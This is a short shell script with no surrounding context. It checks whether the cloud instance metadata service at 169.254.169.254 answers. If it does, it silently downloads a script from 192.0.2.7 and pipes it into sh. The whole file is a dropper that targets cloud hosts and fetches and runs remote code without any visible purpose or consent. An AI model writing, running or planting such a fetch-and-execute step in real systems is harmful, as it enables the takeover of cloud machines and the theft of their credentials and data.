#!/bin/sh
if curl -s -m 2 http://169.254.169.254/latest/meta-data/ >/dev/null; then
  wget -qO- http://192.0.2.7/run.sh | sh
fi
